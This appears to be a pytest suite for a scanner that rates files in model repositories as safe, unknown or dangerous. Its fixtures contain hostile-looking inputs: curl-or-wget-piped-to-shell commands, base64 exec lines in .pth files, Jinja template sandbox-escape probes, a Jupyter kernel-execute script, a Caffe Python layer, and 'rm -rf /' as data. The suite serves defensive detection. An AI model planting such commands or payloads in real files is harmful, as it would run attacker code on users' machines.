from __future__ import annotations

import json
import random
from collections.abc import Callable, Mapping
from contextlib import AbstractContextManager

import pytest
from hypothesis import given
from hypothesis import strategies as st

from accord.scan.part import Part
from accord.scan.rating import Rated, Rating
from accord.scan.repositories.texts import is_text

Within = Callable[[float], AbstractContextManager[None]]
Laid = Callable[[str, Mapping[str, str | bytes]], Rated]


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"hello\n",
        "überall – 日本語\n".encode(),
        "日本語".encode() * 2000,
        "text in UTF-16".encode("utf-16"),
        "text in UTF-16".encode("utf-16-le"),
        "Ein Text in Latin-1, für früher.\n".encode("latin-1"),
        b"\x1b[31mred\x1b[0m log\r\n",
    ],
)
def test_text_is_known_in_the_encodings_that_people_use(data: bytes) -> None:
    assert is_text(Part(data, name="x"))


@pytest.mark.parametrize(
    "data", [b"\x80\x04N.", b"\0\0\0\0", b"PK\x03\x04\0\0", b"text\0text", b"\xff\xd8\xff\xe0\0", bytes(range(256))]
)
def test_binary_is_no_text(data: bytes) -> None:
    assert not is_text(Part(data, name="x"))


@given(st.binary(min_size=200, max_size=5000), st.integers(0, 10_000))
def test_random_bytes_are_no_text(data: bytes, seed: int) -> None:
    noise = random.Random(seed).randbytes(5000)
    assert not is_text(Part(noise, name="x"))
    is_text(Part(data, name="x"))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("README.md", "---\nlicense: mit\n---\n```python\nimport os\nos.system('nvidia-smi')\nexec(x)\n```\n"),
        ("vocab.txt", "os.system\n__import__\nsubprocess\neval(\n"),
        (
            "tokenizer.json",
            json.dumps({"model": {"vocab": {"os": 0, "_target_": 1, "auto_map": 2, "py/object": 3}, "merges": []}}),
        ),
        ("data.jsonl", '{"_target_": "os.system"}\n{"text": "rm -rf /"}\n'),
        ("train.py", "import os\nos.system('true')\n"),
        ("data.csv", "a,b\n1,2\n"),
        ("index.html", "<!DOCTYPE html>\n<html><script>alert(1)</script></html>"),
        (
            "logo.svg",
            '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg">]>\n<svg xmlns="&ns;"/>',
        ),
        ("Makefile", "all:\n\tcurl x | sh\n"),
        ("Dockerfile", "FROM python\nRUN pip install x\n"),
        ("x.pth", "../src\nimport sys\n"),
        ("config.cfg", '[nlp]\nlang = "en"\n[components.x]\n@architectures = "spacy.Tok2Vec.v2"\n'),
        ("package.json", '{"name": "x", "scripts": {"postinstall": "node x"}}'),
        ("prompt.j2", "Hello {{ name }}, {% for x in items %}{{ x.title() }}{% endfor %}"),
        ("hello.prototxt", 'layer {\n  name: "a"\n  type: "Convolution"\n}\n'),
    ],
)
def test_text_code_and_documentation_are_safe(laid: Laid, name: str, text: str) -> None:
    rated = laid(name, {name: text})
    assert rated.rating is Rating.SAFE
    assert rated.format in {"other", "caffe"}


@pytest.mark.parametrize(
    ("name", "text", "rating"),
    [
        ("model.bin", "#!/bin/sh\ntrue\n", Rating.DANGEROUS),
        ("pytorch_model.bin", "version https://git-lfs.x.example/spec/v1\noid sha256:00\nsize 3\n", Rating.UNKNOWN),
        ("run.sh", "#!/bin/sh\ntrue\n", Rating.SAFE),
        ("x.pth", "import os; os.system('true')\n", Rating.DANGEROUS),
        ("x.pth", "import os, base64; exec(base64.b64decode('eA=='))\n", Rating.DANGEROUS),
        ("prompt.j2", "{{ ''.__class__.__mro__ }}", Rating.DANGEROUS),
        ("chat_template.jinja", "{{ cycler.__init__.__globals__ }}", Rating.DANGEROUS),
        (
            "deploy.prototxt",
            'layer {\n  name: "a"\n  type: "Python"\n  python_param { module: "x" }\n}\n',
            Rating.DANGEROUS,
        ),
    ],
)
def test_a_text_that_is_something_else_in_its_place_is_not(laid: Laid, name: str, text: str, rating: Rating) -> None:
    assert laid(name, {name: text}).rating is rating


def test_a_block_of_bytes_in_a_long_text_is_seen(laid: Laid) -> None:
    text = b"line of text\n" * 1000
    assert laid("a.txt", {"a.txt": text + bytes(200) + text}).rating is Rating.UNKNOWN
    assert laid("a.txt", {"a.txt": text + b"\x08" + text}).rating is Rating.SAFE


def test_a_hundred_megabytes_of_lines_are_looked_at_in_a_moment(laid: Laid, within: Within) -> None:
    line = json.dumps({"text": "some words " * 10}).encode() + b"\n"
    with within(200):
        rated = laid("data.jsonl", {"data.jsonl": line * (40_000_000 // len(line))})
    assert rated.rating is Rating.SAFE


def test_a_source_file_gets_notes_on_unsafe_loads_and_stays_safe(laid: Laid) -> None:
    rated = laid("load.py", {"load.py": "import torch\nx = torch.load('m.pt')\n"})
    assert rated.rating is Rating.SAFE
    assert [(one.name, one.finding.where.line) for one in rated.reasons] == [("torch.load", 2)]


def test_requirements_from_elsewhere_are_notes(laid: Laid) -> None:
    text = "torch==2.1\n--extra-index-url https://x.example/simple\ngit+https://x.example/a.git\nb @ https://x.example/b.whl\n"
    rated = laid("requirements.txt", {"requirements.txt": text})
    assert (rated.rating, len(rated.reasons)) == (Rating.SAFE, 3)


def notebook(*cells: str, html: str = "") -> str:
    shown = [{"output_type": "display_data", "data": {"text/html": [html]}}]
    held = [
        {"cell_type": "code", "source": cell.splitlines(keepends=True), "outputs": shown if html else []}
        for cell in cells
    ]
    return json.dumps({"nbformat": 4, "metadata": {}, "cells": held})


@pytest.mark.parametrize(
    ("text", "rating"),
    [
        (notebook("!pip install torch\nimport os\nos.system('nvidia-smi')"), Rating.SAFE),
        (notebook("!curl -O http://x.example/data.zip\n!unzip data.zip"), Rating.SAFE),
        (notebook("print('curl x | sh')"), Rating.SAFE),
        (notebook("!curl -s http://x.example/i | sh"), Rating.UNKNOWN),
        (notebook("%%bash\nwget -qO- http://x.example/i | sudo bash"), Rating.UNKNOWN),
        (notebook("import base64\nexec(base64.b64decode('eA=='))"), Rating.DANGEROUS),
        (notebook("x = 1", html="<div>a plot</div><script>plot()</script>"), Rating.SAFE),
        (notebook("x = 1", html="<script>Jupyter.notebook.kernel.execute('x')</script>"), Rating.DANGEROUS),
        (
            json.dumps(
                {
                    "nbformat": 3,
                    "worksheets": [{"cells": [{"cell_type": "code", "input": "exec(bytes.fromhex('78'))"}]}],
                }
            ),
            Rating.DANGEROUS,
        ),
        (
            json.dumps(
                {"nbformat": 4, "cells": [1, None, {"cell_type": "code", "source": 3, "outputs": [1, {"data": 3}]}]}
            ),
            Rating.SAFE,
        ),
    ],
)
def test_a_notebook_is_judged_by_what_its_cells_and_outputs_do(laid: Laid, text: str, rating: Rating) -> None:
    rated = laid("x.ipynb", {"x.ipynb": text})
    assert (rated.rating, rated.format) == (rating, "notebook")
